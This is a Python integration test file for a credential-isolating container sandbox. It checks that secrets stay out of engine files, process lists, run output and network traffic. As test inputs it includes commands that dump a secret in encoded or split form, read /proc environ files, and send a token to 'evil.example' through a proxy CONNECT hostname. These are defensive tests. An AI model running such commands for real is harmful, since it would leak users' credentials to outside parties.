"""Where a credential is, and where it is not: attack 39, incidents 9 and 12."""

import json
import subprocess  # noqa: TID251 - looks through the engine's files with grep
import threading
import time
from pathlib import Path

import docker
import pytest

from countersign.domain.credential import Credential
from countersign.domain.run import Endpoint
from runners.sandbox import place
from runners.sandbox.container import ContainerSandbox
from tests.integration.sandbox.specs import make_spec
from tests.support.podman import FOLDER

SECRET = "Tr0ub4dor&3/s3cr3t+of=one run"
NEEDLES = [SECRET, "VHIwdWI0ZG9yJjMvczNjcjN0K29mPW9uZSBydW4"]


def credential() -> Credential:
    return Credential({"PGPASSWORD": SECRET, "PGUSER": "cs_run"}, public=["PGUSER"])


def test_the_command_has_it_and_the_engine_does_not(sandbox: ContainerSandbox, engine_socket: Path, image: str) -> None:
    spec = make_spec(
        image, ["sh", "-c", 'test "$PGPASSWORD" && sleep 3; env | grep -c PGPASSWORD'], files={"secret": b"file of the run"}
    )
    results = []
    running = threading.Thread(target=lambda: results.append(sandbox.run(spec, credential())))
    running.start()
    client = docker.DockerClient(base_url=f"unix://{engine_socket}")
    try:
        seen = ""
        deadline = time.monotonic() + 10
        while not seen and time.monotonic() < deadline:
            for container in client.containers.list(filters={"label": f"countersign.run={spec.run}"}):
                time.sleep(0.3)
                seen = json.dumps([container.attrs, client.api.inspect_container(str(container.id))])
        lines = b"".join(path.read_bytes() for path in Path("/proc").glob("[0-9]*/cmdline") if path.exists())
        found = subprocess.run(  # noqa: S603 - our own words
            ["/usr/bin/grep", "-rlaF", *[f"--regexp={needle}" for needle in NEEDLES], *map(str, engine_files())],
            capture_output=True,
            text=True,
            check=False,
        )
    finally:
        running.join()
        client.close()
    assert results[0].stdout == "1\n"
    assert f'"countersign.run": "{spec.run}"' in seen
    assert not any(needle in seen for needle in NEEDLES)
    assert "cs_run" not in seen
    assert "file of the run" not in seen
    assert SECRET.encode() not in lines
    assert (found.stdout, found.returncode) == ("", 1)


def engine_files() -> list[Path]:
    """Give the folders where the engine writes what it knows about containers; layers of images are not among them."""
    where = place.find(FOLDER)
    storage = where.base / "storage"
    return [where.runtime_dir, storage / "libpod", *storage.glob("graph/overlay-containers")]


PRINTERS = {
    "plain": 'printf "%s" "$PGPASSWORD"',
    "base64": 'printf "%s" "$PGPASSWORD" | base64',
    "within a line of base64": 'printf "user:%s" "$PGPASSWORD" | base64 -w0',
    "percent-encoded": "python3 -c \"import os, urllib.parse as u; print(u.quote(os.environ['PGPASSWORD']))\"",
    "in pieces": 'for i in $(seq 1 ${#PGPASSWORD}); do printf "%s" "$PGPASSWORD" | cut -c$i | tr -d "\\n"; sleep 0.02; done',
    "the whole environment": "env",
    "to standard error": 'printf "%s" "$PGPASSWORD" >&2',
    "from the first process": "tr '\\0' '\\n' < /proc/self/environ; cat /proc/1/environ /proc/1/cmdline",
}


@pytest.mark.parametrize("printer", PRINTERS.values(), ids=PRINTERS.keys())
def test_output_shows_a_mark_in_its_place(sandbox: ContainerSandbox, image: str, printer: str) -> None:
    result = sandbox.run(make_spec(image, ["sh", "-c", printer]), credential())
    shown = result.stdout + result.stderr
    assert "[credential 1]" in shown
    assert not any(needle in shown for needle in NEEDLES)
    assert result.tainted


def test_a_run_that_shows_nothing_is_not_tainted(sandbox: ContainerSandbox, image: str) -> None:
    result = sandbox.run(make_spec(image, ["sh", "-c", "echo $PGUSER"]), credential())
    assert (result.stdout, result.tainted) == ("cs_run\n", False)


def test_the_first_process_holds_nothing_in_its_environment(sandbox: ContainerSandbox, image: str) -> None:
    result = sandbox.run(
        make_spec(image, ["sh", "-c", "tr '\\0' '\\n' < /proc/1/environ | cut -d= -f1; tr '\\0' ' ' < /proc/1/cmdline"]),
        credential(),
    )
    assert "PGPASSWORD" not in result.stdout.split("python3")[0]
    assert not result.tainted


def test_a_secret_in_a_host_name_reaches_neither_the_net_nor_the_record(sandbox: ContainerSandbox, image: str) -> None:
    script = (
        "import os, socket, urllib.parse\n"
        "proxy = urllib.parse.urlsplit(os.environ['HTTPS_PROXY'])\n"
        "with socket.create_connection((proxy.hostname, proxy.port)) as out:\n"
        "    out.sendall(f\"CONNECT {os.environ['TOKEN']}.evil.example:443 HTTP/1.1\\r\\n\\r\\n\".encode())\n"
        "    print(out.recv(20))\n"
    )
    spec = make_spec(image, ["python3", "-c", script], allow=[Endpoint("db.shop.example", 5432)])
    result = sandbox.run(spec, Credential({"TOKEN": "abcdef0123456789abcdef"}))
    assert "403" in result.stdout
    assert [str(one.endpoint) for one in result.connections] == ["[credential 1].evil.example:443"]
    assert not result.connections[0].allowed
    assert result.tainted
